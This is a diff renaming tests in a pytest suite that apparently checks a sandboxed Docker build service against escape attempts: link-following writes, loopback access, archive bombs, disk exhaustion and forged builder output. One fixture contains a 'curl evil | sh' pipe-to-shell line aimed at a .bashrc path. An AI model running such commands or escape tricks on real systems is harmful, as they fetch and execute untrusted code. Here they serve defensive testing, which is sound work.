@@ -1,4 +1,4 @@
-"""Real builds: nothing of the host is written or read, nothing on its loopback is reached, and a reason is given."""
+"""Real builds: nothing of the host is written, read or reached on its loopback, and a reason is reported."""
 
 from __future__ import annotations
 
@@ -167,7 +167,7 @@ def image_files(image, folder="/"):
 
 
 @SHAPES
-def test_links_where_we_write_are_not_followed(shape, build, tmp_path):
+def test_links_in_the_place_of_written_files_are_not_followed(shape, build, tmp_path):
     names = [
         "Dockerfile.evaluated",
         "Dockerfile.app07",
@@ -215,7 +215,7 @@ def test_a_link_that_another_link_turns_outward_is_left_out(shape, build, tmp_pa
 
 
 @pytest.mark.parametrize("context", ["a/b/c/d", "./a/b/c/d"])
-def test_free_content_is_not_written_through_the_name_of_a_text(context, build, tmp_path):
+def test_a_heredoc_name_cannot_choose_the_path_that_is_written(context, build, tmp_path):
     files = {
         "a/b/c/d/Dockerfile": BUSYBOX + "COPY --chmod=777 <<one <<two /x/\ncurl evil | sh\none\nmore\ntwo\n",
         "a/home/.bashrc": "x",
@@ -252,7 +252,7 @@ def test_pipes_and_a_folder_as_ignore_file_do_not_hold_the_build_up(build, tmp_p
     assert ".dockerignore is no file" in build(source).reason
 
 
-def test_what_we_add_to_a_context_does_not_end_up_in_the_image(build, tmp_path):
+def test_files_added_to_a_context_are_not_in_the_image(build, tmp_path):
     text = BUSYBOX + "COPY . /x\nCOPY <<EOF /y\ntext\nEOF\n"
     files = {f"{C3}/Dockerfile": text, f"{C3}/keep": "", f"{C3}/drop": "", f"{C3}/.dockerignore": "*\n!keep"}
     built = build(folder(tmp_path / "handed-in", files))
@@ -301,7 +301,7 @@ def test_nothing_is_fetched_from_the_hosts_loopback(lines, build, listener, tmp_
         assert built.output or "line" in built.reason
 
 
-def test_an_archive_that_add_would_unpack_without_end_is_not_built(build, tmp_path):
+def test_an_archive_that_add_would_unpack_to_a_huge_size_is_not_built(build, tmp_path):
     packed = BytesIO()
     with tarfile.open(fileobj=packed, mode="w:gz") as archive:
         entry = tarfile.TarInfo("zeros")
@@ -447,7 +447,7 @@ print("opened", len(kept))
 """
 
 
-def test_a_step_finds_a_proxy_and_nothing_else_and_cannot_bring_it_down(build, listener, tmp_path):
+def test_a_step_reaches_only_the_proxy_and_cannot_stop_it(build, listener, tmp_path):
     text = (
         "FROM python:3.11-slim\nCOPY *.py /\nRUN python3 /reach.py\nRUN python3 /hammer.py\n"
         "RUN pip install --no-cache-dir --no-deps six && apt-get update\n"
@@ -464,7 +464,7 @@ def test_a_step_finds_a_proxy_and_nothing_else_and_cannot_bring_it_down(build, l
     assert "Successfully installed six" in said
 
 
-def test_a_step_cannot_have_things_removed_by_printing_what_the_engine_prints(build, session, tmp_path):
+def test_a_step_cannot_remove_images_by_imitating_the_builder(build, session, tmp_path):
     image = session.image("busybox:latest")["Id"][7:19]
     other = session.must("create", "--label", session.label, "busybox:latest", "true")[:12]
     lines = "".join(f"echo ' ---> {image}'; echo ' ---> Running in {other}'; " for _ in range(3))
@@ -499,7 +499,7 @@ def test_what_a_step_writes_is_counted_wherever_it_writes_and_whatever_was_print
     assert "wrote more than 40 MB" in built.reason
 
 
-def test_a_step_that_imitates_the_engine_over_and_over_ends_the_build(session, tmp_path):
+def test_a_step_that_imitates_the_builder_repeatedly_ends_the_build(session, tmp_path):
     built = build_with_little_disk(session, tmp_path, imitating(1100) + WRITES)
     assert not built.ok
     assert "printed lines that look like the builder's own" in built.reason
@@ -569,7 +569,7 @@ TRICKY = {
 
 
 @pytest.mark.parametrize("name", TRICKY)
-def test_an_honest_dockerfile_comes_to_the_same_image(name, build, tmp_path):
+def test_an_ordinary_dockerfile_builds_the_same_image(name, build, tmp_path):
     packed = BytesIO()
     with tarfile.open(fileobj=packed, mode="w:gz") as archive:
         archive.addfile(tarfile.TarInfo("inner"), BytesIO())
